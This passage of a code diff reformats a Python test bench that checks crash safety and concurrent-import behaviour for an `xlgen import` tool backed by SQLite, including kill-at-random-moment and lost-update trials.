     revision (integrity ok, the import's values all old or all new)."""
-    result = TrialResult("4 crash safety", "`xlgen import` (40 values) killed with SIGKILL at a random moment")
+    result = TrialResult(
+        "4 crash safety", "`xlgen import` (40 values) killed with SIGKILL at a random moment"
+    )
     started = time.monotonic()
     if workdir.exists():
         shutil.rmtree(workdir)
@@ -1680,7 +2100,9 @@ def import_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path
         killed = run.code == -signal.SIGKILL
         problems = []
         wal = db.with_name(db.name + "-wal")
-        frames = killed and wal.exists() and wal.stat().st_size > 0  # the kill hit a transaction's pages
+        frames = (
+            killed and wal.exists() and wal.stat().st_size > 0
+        )  # the kill hit a transaction's pages
         check = integrity(db)
         if check != "ok":
             problems.append(f"integrity_check: {check}")
@@ -1695,7 +2117,9 @@ def import_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path
         elif rev == 2 and new and revisions == 2:
             state = "store at the new revision, all values new"
         else:
-            problems.append(f"revision {rev} with {'all old' if old else 'all new' if new else 'MIXED'} values")
+            problems.append(
+                f"revision {rev} with {'all old' if old else 'all new' if new else 'MIXED'} values"
+            )
             state = "FAILED"
         if frames and not problems:
             state += " (WAL frames left by the kill, recovered)"
@@ -1703,9 +2127,12 @@ def import_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path
             problems.append(f"exit {run.code}: {run.err[:200]}")
         result.store_checked(not problems, lost=bool(problems))
         label = ("killed: " if killed else "finished before the kill: ") + state
-        result.add(label if not problems else "FAILED",
-                   failure="; ".join(problems) and f"run {n} (kill after {delay:.2f} s): " + "; ".join(problems),
-                   seconds=delay)
+        result.add(
+            label if not problems else "FAILED",
+            failure="; ".join(problems)
+            and f"run {n} (kill after {delay:.2f} s): " + "; ".join(problems),
+            seconds=delay,
+        )
     result.elapsed = time.monotonic() - started
     return result
 
@@ -1716,8 +2143,9 @@ def import_kill_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path
 START_DELAY = 1.2  # seconds for both children to import xlgen before they start together
 
 
-def concurrent_import_trial(bench: Bench, runs: int, rng: random.Random, workdir: Path,
-                            overlap: bool) -> TrialResult:
+def concurrent_import_trial(
+    bench: Bench, runs: int, rng: random.Random, workdir: Path, overlap: bool
+) -> TrialResult:
     """Two `xlgen import` processes on one store at the same moment, with two different
     edited workbooks of the same build (disjoint records, or one record edited in both to
     different values). Both apply in sequence, or one is refused cleanly; nothing is lost."""
@@ -1741,10 +2169,14 @@ def concurrent_import_trial(bench: Bench, runs: int, rng: random.Random, workdir
         db = bench.store_copy(workdir / "store")
         at = time.time() + START_DELAY
         jitter = rng.choice([0.0, 0.0, rng.uniform(0, 0.05), rng.uniform(0, 0.3)])
-        children = [Child(["import", str(pa)], db=db, start_at=at),
-                    Child(["import", str(pb)], db=db, start_at=at + jitter)]
+        children = [
+            Child(["import", str(pa)], db=db, start_at=at),
+            Child(["import", str(pb)], db=db, start_at=at + jitter),
+        ]
         runs_ = [c.wait() for c in children]
-        problems = [f"{name}: {p}" for name, r in zip("AB", runs_, strict=True) if (p := unexpected(r))]
+        problems = [
+            f"{name}: {p}" for name, r in zip("AB", runs_, strict=True) if (p := unexpected(r))
+        ]
         applied = [r.code == 0 for r in runs_]
         for name, r in zip("AB", runs_, strict=True):
             if r.code == 1 and not re.search("그사이 바뀌었|바뀌었는데|다시 가져오", r.err):
@@ -1755,7 +2187,9 @@ def concurrent_import_trial(bench: Bench, runs: int, rng: random.Random, workdir
         rev, values, revisions = _values(db)
         lost = False
         if rev != 1 + sum(applied) or revisions != rev:
-            problems.append(f"revision {rev} / {revisions} revisions after {sum(applied)} applied imports")
+            problems.append(
+                f"revision {rev} / {revisions} revisions after {sum(applied)} applied imports"
+            )
             lost = True
         shared = set(a) & set(b)
         for edits, ok, name in ((a, applied[0], "A"), (b, applied[1], "B")):
@@ -1769,7 +2203,9 @@ def concurrent_import_trial(bench: Bench, runs: int, rng: random.Random, workdir
                     problems.append(f"{name} {rk}: {values[rk]} instead of {want} (lost update)")
                     lost = True
         if shared and all(applied):
-            problems.append("both imports applied although they edited the same record: lost update")
+            problems.append(
+                "both imports applied although they edited the same record: lost update"
+            )
             lost = True
         if not any(applied) and not problems:
             problems.append("both imports refused: nothing applied")
@@ -1780,10 +2216,18 @@ def concurrent_import_trial(bench: Bench, runs: int, rng: random.Random, workdir
             outcome = "both applied in sequence"
         else:
             refused = runs_[applied.index(False)]
-            outcome = ("one applied, the other refused: document changed meanwhile"
-                       if "그사이 바뀌었" in refused.err else "one applied, the other refused: conflict on the value")
-        result.add(outcome, failure="; ".join(problems[:4]) and f"run {n} (jitter {jitter:.3f} s): " + "; ".join(problems[:4]),
-                   seconds=max(r.seconds for r in runs_) - START_DELAY, rss_mb=max(r.rss_mb for r in runs_))
+            outcome = (
+                "one applied, the other refused: document changed meanwhile"
+                if "그사이 바뀌었" in refused.err
+                else "one applied, the other refused: conflict on the value"
+            )
+        result.add(
+            outcome,
+            failure="; ".join(problems[:4])
+            and f"run {n} (jitter {jitter:.3f} s): " + "; ".join(problems[:4]),
+            seconds=max(r.seconds for r in runs_) - START_DELAY,
+            rss_mb=max(r.rss_mb for r in runs_),
+        )
     result.elapsed = time.monotonic() - started
     return result
 
@@ -1803,8 +2247,10 @@ def markdown_table(results: list[TrialResult]) -> str:
         t = f"{r.max_seconds:.2f} s" if r.max_seconds else "–"
         m = f"{r.max_rss_mb:.0f} MB" if r.max_rss_mb else "–"
         name = r.name.replace("|", "\\|")
-        lines.append(f"| {k} | {r.area} | {name} | {r.runs} | {outcome.replace('|', '/')} | {intact} | "
-                     f"{r.lost} | {t} | {m} |")
+        lines.append(
+            f"| {k} | {r.area} | {name} | {r.runs} | {outcome.replace('|', '/')} | {intact} | "
+            f"{r.lost} | {t} | {m} |"
+        )
     return "\n".join(lines)
 
 
